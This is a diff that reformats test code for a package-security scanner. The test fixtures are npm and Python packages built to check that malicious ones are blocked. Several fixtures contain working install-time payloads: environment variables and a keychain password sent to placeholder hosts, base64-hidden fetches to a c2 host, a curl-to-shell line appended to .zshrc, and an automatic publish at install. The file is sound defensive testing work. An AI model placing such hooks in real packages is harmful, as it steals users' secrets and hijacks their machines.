@@ -40,22 +40,54 @@ const pyVariant = (id: string) => {
 };
 
 /** An npm package written here: package.json with `main: index.js`, the given scripts and fields, plus files. */
-function npm(name: string, files: Record<string, string>, scripts: Record<string, string> = {}, fields: Record<string, unknown> = {}): NpmVariant {
-  return { id: name, family: 'written here', files: { 'package.json': JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts, ...fields }), ...files } };
+function npm(
+  name: string,
+  files: Record<string, string>,
+  scripts: Record<string, string> = {},
+  fields: Record<string, unknown> = {},
+): NpmVariant {
+  return {
+    id: name,
+    family: 'written here',
+    files: {
+      'package.json': JSON.stringify({ name, version: '1.0.0', main: 'index.js', scripts, ...fields }),
+      ...files,
+    },
+  };
 }
 
 async function rateNpm(v: NpmVariant): Promise<{ level: string; rules: string[] }> {
-  const a = await analyzeArchive(npmTgz(v.files), { kind: 'tgz', registry: 'npm', registryHosts: ['registry.example.org'] });
+  const a = await analyzeArchive(npmTgz(v.files), {
+    kind: 'tgz',
+    registry: 'npm',
+    registryHosts: ['registry.example.org'],
+  });
   const level = packageVerdict(
-    reviewPackage({ registry: 'npm', name: v.id, version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'x', actual: 'x' }, advisories: { status: 'ok', advisories: [] } }),
+    reviewPackage({
+      registry: 'npm',
+      name: v.id,
+      version: '1.0.0',
+      analysis: a,
+      integrity: { ok: true, expected: 'x', actual: 'x' },
+      advisories: { status: 'ok', advisories: [] },
+    }),
   ).securityLevel;
-  return { level, rules: a.findings.filter((f) => f.severity === 'HIGH' || f.severity === 'CRITICAL' || f.severity === 'MEDIUM').map((f) => `${f.ruleId}:${f.severity}`) };
+  return {
+    level,
+    rules: a.findings
+      .filter((f) => f.severity === 'HIGH' || f.severity === 'CRITICAL' || f.severity === 'MEDIUM')
+      .map((f) => `${f.ruleId}:${f.severity}`),
+  };
 }
 
 async function npmBlocked(v: NpmVariant, rule?: string): Promise<void> {
   const r = await rateNpm(v);
   assert.is(r.level, 'BLOCKED', `${v.id}: ${r.level} (${r.rules.join(', ')})`);
-  if (rule) assert.ok(r.rules.some((x) => x.startsWith(`${rule}:`)), `${v.id}: ${rule} not among ${r.rules.join(', ')}`);
+  if (rule)
+    assert.ok(
+      r.rules.some((x) => x.startsWith(`${rule}:`)),
+      `${v.id}: ${rule} not among ${r.rules.join(', ')}`,
+    );
 }
 
 async function npmHonest(v: NpmVariant): Promise<void> {
@@ -78,14 +110,29 @@ const ODD_NPM = [
 ];
 for (const id of ODD_NPM) test(`real: ${id} BLOCKED`, async () => npmBlocked(npmVariant(id)));
 
-const ODD_PY = ['s3/meson-run-command-env-post', 's3/excepthook-locals-exfil', 's3/certutil-urlcache-download', 's3/fish-conf-d-persistence', 's3/pynput-keylogger-import', 's3/runner-worker-memory'];
+const ODD_PY = [
+  's3/meson-run-command-env-post',
+  's3/excepthook-locals-exfil',
+  's3/certutil-urlcache-download',
+  's3/fish-conf-d-persistence',
+  's3/pynput-keylogger-import',
+  's3/runner-worker-memory',
+];
 for (const id of ODD_PY) test(`real: ${id} BLOCKED`, async () => blocked(pyVariant(id)));
 
 // ---- runners, entries and build scripts --------------------------------------------------------------------
 
 test('npx of a local .mjs from a hook runs it: the environment sent from it BLOCKED', async () => {
   await npmBlocked(
-    npm('setup-presets', { 'index.js': 'module.exports = {};\n', 'scripts/apply.mjs': "await fetch('https://198.51.100.40/e', { method: 'POST', body: JSON.stringify(process.env) });\n" }, { postinstall: 'npx ./scripts/apply.mjs' }),
+    npm(
+      'setup-presets',
+      {
+        'index.js': 'module.exports = {};\n',
+        'scripts/apply.mjs':
+          "await fetch('https://198.51.100.40/e', { method: 'POST', body: JSON.stringify(process.env) });\n",
+      },
+      { postinstall: 'npx ./scripts/apply.mjs' },
+    ),
   );
 });
 
@@ -112,16 +159,22 @@ test('browser entry (object map) runs at import: a provider hook there BLOCKED',
 
 test('honest: a provider wrapper that logs requests and writes no address in', async () => {
   await npmHonest(
-    npm('provider-logger', { 'index.js': "module.exports = function wrap(p) { var req = p.request.bind(p); p.request = function (a) { if (a.method === 'eth_sendTransaction') console.debug('tx', a.params); return req(a); }; return p; };\n" }),
+    npm('provider-logger', {
+      'index.js':
+        "module.exports = function wrap(p) { var req = p.request.bind(p); p.request = function (a) { if (a.method === 'eth_sendTransaction') console.debug('tx', a.params); return req(a); }; return p; };\n",
+    }),
   );
 });
 
 test('CMake execute_process of a shipped script under scikit-build-core: the script runs at install', async () => {
   await blocked(
     sdist('kdtree-fast', {
-      'pyproject.toml': '[build-system]\nrequires = ["scikit-build-core"]\nbuild-backend = "scikit_build_core.build"\n\n[project]\nname = "kdtree-fast"\nversion = "1.0.0"\n',
-      'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.15)\nproject(kdtree LANGUAGES C)\nexecute_process(COMMAND ${Python_EXECUTABLE} cmake/probe.py OUTPUT_VARIABLE FLAGS)\n',
-      'cmake/probe.py': "import json, os, urllib.request\nurllib.request.urlopen('http://203.0.113.77/p', json.dumps(dict(os.environ)).encode(), timeout=3)\nprint('-O2')\n",
+      'pyproject.toml':
+        '[build-system]\nrequires = ["scikit-build-core"]\nbuild-backend = "scikit_build_core.build"\n\n[project]\nname = "kdtree-fast"\nversion = "1.0.0"\n',
+      'CMakeLists.txt':
+        'cmake_minimum_required(VERSION 3.15)\nproject(kdtree LANGUAGES C)\nexecute_process(COMMAND ${Python_EXECUTABLE} cmake/probe.py OUTPUT_VARIABLE FLAGS)\n',
+      'cmake/probe.py':
+        "import json, os, urllib.request\nurllib.request.urlopen('http://203.0.113.77/p', json.dumps(dict(os.environ)).encode(), timeout=3)\nprint('-O2')\n",
     }),
   );
 });
@@ -130,7 +183,8 @@ test('honest: meson run_command of a version script that reads a file', async ()
   await honest(
     sdist('meson-ver', {
       'pyproject.toml': '[build-system]\nrequires = ["meson-python"]\nbuild-backend = "mesonpy"\n',
-      'meson.build': "project('meson-ver', 'c', version: run_command('python3', 'tools/version.py', check: true).stdout().strip())\n",
+      'meson.build':
+        "project('meson-ver', 'c', version: run_command('python3', 'tools/version.py', check: true).stdout().strip())\n",
       'tools/version.py': "import pathlib\nprint(pathlib.Path('VERSION').read_text().strip())\n",
     }),
   );
@@ -142,7 +196,9 @@ test('ESM: a worker evaluating a base64-decoded string BLOCKED', async () => {
   await npmBlocked(
     npm(
       'job-pool',
-      { 'index.js': `import { Worker } from 'node:worker_threads';\nconst src = Buffer.from('${Buffer.from("require('https').get('https://c2.example/x')").toString('base64')}', 'base64').toString('utf8');\nnew Worker(src, { eval: true });\nexport default 1;\n` },
+      {
+        'index.js': `import { Worker } from 'node:worker_threads';\nconst src = Buffer.from('${Buffer.from("require('https').get('https://c2.example/x')").toString('base64')}', 'base64').toString('utf8');\nnew Worker(src, { eval: true });\nexport default 1;\n`,
+      },
       {},
       { type: 'module' },
     ),
@@ -151,14 +207,25 @@ test('ESM: a worker evaluating a base64-decoded string BLOCKED', async () => {
 });
 
 test('honest: a worker evaluating a literal of its own code', async () => {
-  await npmHonest(npm('worker-lit', { 'index.js': "const { Worker } = require('worker_threads');\nmodule.exports = () => new Worker('const { parentPort } = require(\"worker_threads\"); parentPort.postMessage(1);', { eval: true });\n" }));
+  await npmHonest(
+    npm('worker-lit', {
+      'index.js':
+        "const { Worker } = require('worker_threads');\nmodule.exports = () => new Worker('const { parentPort } = require(\"worker_threads\"); parentPort.postMessage(1);', { eval: true });\n",
+    }),
+  );
 });
 
 test('a source map read and its sourcesContent run through Function BLOCKED', async () => {
   await npmBlocked(
     npm('emit-lite', {
-      'index.js': "const fs = require('fs');\nconst map = JSON.parse(fs.readFileSync(require('path').join(__dirname, 'index.js.map'), 'utf8'));\nnew Function(map.sourcesContent[1])();\nmodule.exports = {};\n",
-      'index.js.map': JSON.stringify({ version: 3, sources: ['a.ts', 'b.ts'], sourcesContent: ['', "require('https').get('https://c2.example/y')"], mappings: '' }),
+      'index.js':
+        "const fs = require('fs');\nconst map = JSON.parse(fs.readFileSync(require('path').join(__dirname, 'index.js.map'), 'utf8'));\nnew Function(map.sourcesContent[1])();\nmodule.exports = {};\n",
+      'index.js.map': JSON.stringify({
+        version: 3,
+        sources: ['a.ts', 'b.ts'],
+        sourcesContent: ['', "require('https').get('https://c2.example/y')"],
+        mappings: '',
+      }),
     }),
     'asset_code_eval',
   );
@@ -167,7 +234,8 @@ test('a source map read and its sourcesContent run through Function BLOCKED', as
 test('honest: a source-map reader parsing its own map', async () => {
   await npmHonest(
     npm('map-read', {
-      'index.js': "const fs = require('fs');\nmodule.exports = (file) => JSON.parse(fs.readFileSync(file + '.map', 'utf8')).sources;\n",
+      'index.js':
+        "const fs = require('fs');\nmodule.exports = (file) => JSON.parse(fs.readFileSync(file + '.map', 'utf8')).sources;\n",
     }),
   );
 });
@@ -180,7 +248,8 @@ test('backstop: a secret (keychain) sent at install to a host merely named after
       'keyring-sync',
       {
         'index.js': 'module.exports = {};\n',
-        'post.js': "const { execSync } = require('child_process');\nconst https = require('https');\nconst s = execSync('security find-generic-password -ga login 2>&1').toString();\nconst r = https.request('https://upload.keyring-sync.example/k', { method: 'POST' });\nr.end(s);\n",
+        'post.js':
+          "const { execSync } = require('child_process');\nconst https = require('https');\nconst s = execSync('security find-generic-password -ga login 2>&1').toString();\nconst r = https.request('https://upload.keyring-sync.example/k', { method: 'POST' });\nr.end(s);\n",
       },
       { postinstall: 'node post.js' },
     ),
@@ -202,7 +271,8 @@ test('backstop: JavaScript appends a download piped into a shell to ~/.zshrc at 
       'zsh-theme-pack',
       {
         'index.js': 'module.exports = {};\n',
-        'i.js': "const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.zshrc'), '\\n(curl -fsS https://t.zsh-cdn.example/a | sh &) 2>/dev/null\\n');\n",
+        'i.js':
+          "const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.zshrc'), '\\n(curl -fsS https://t.zsh-cdn.example/a | sh &) 2>/dev/null\\n');\n",
       },
       { postinstall: 'node i.js' },
     ),
@@ -224,7 +294,8 @@ test('backstop: a publish at install through a wrapper function BLOCKED', async 
       'left-pad-lines',
       {
         'index.js': 'module.exports = (s) => s;\n',
-        'w.js': "const cp = require('child_process');\nconst run = (c) => cp.execSync(c, { stdio: 'ignore' });\nfor (const d of ['a', 'b']) { try { run('cd ' + d + ' && pnpm publish --no-git-checks'); } catch (e) {} }\n",
+        'w.js':
+          "const cp = require('child_process');\nconst run = (c) => cp.execSync(c, { stdio: 'ignore' });\nfor (const d of ['a', 'b']) { try { run('cd ' + d + ' && pnpm publish --no-git-checks'); } catch (e) {} }\n",
       },
       { preinstall: 'node w.js' },
     ),
@@ -234,7 +305,8 @@ test('backstop: a publish at install through a wrapper function BLOCKED', async 
 test('honest: an AWS client reads ~/.aws/credentials and calls the AWS API at import', async () => {
   await honest(
     sdist('s3-lite', {
-      's3_lite/__init__.py': "import configparser, os, urllib.request\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/credentials'))\nREGION_URL = 'https://sts.amazonaws.com/'\nurllib.request.urlopen(REGION_URL, timeout=3)\n",
+      's3_lite/__init__.py':
+        "import configparser, os, urllib.request\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/credentials'))\nREGION_URL = 'https://sts.amazonaws.com/'\nurllib.request.urlopen(REGION_URL, timeout=3)\n",
     }),
   );
 });
@@ -261,10 +333,16 @@ test('honest: an SSH library whose functions read keys and connect to the host t
 
 test('honest: a shell-completion installer that writes ~/.bashrc only when its command runs', async () => {
   await npmHonest(
-    npm('comp-install', {
-      'index.js': 'module.exports = {};\n',
-      'bin/cli.js': "#!/usr/bin/env node\nconst fs = require('fs'), os = require('os'), path = require('path');\nif (process.argv[2] === 'completion') fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsource <(comp-install completion-script)\\n');\n",
-    }, {}, { bin: { 'comp-install': 'bin/cli.js' } }),
+    npm(
+      'comp-install',
+      {
+        'index.js': 'module.exports = {};\n',
+        'bin/cli.js':
+          "#!/usr/bin/env node\nconst fs = require('fs'), os = require('os'), path = require('path');\nif (process.argv[2] === 'completion') fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsource <(comp-install completion-script)\\n');\n",
+      },
+      {},
+      { bin: { 'comp-install': 'bin/cli.js' } },
+    ),
   );
 });
 
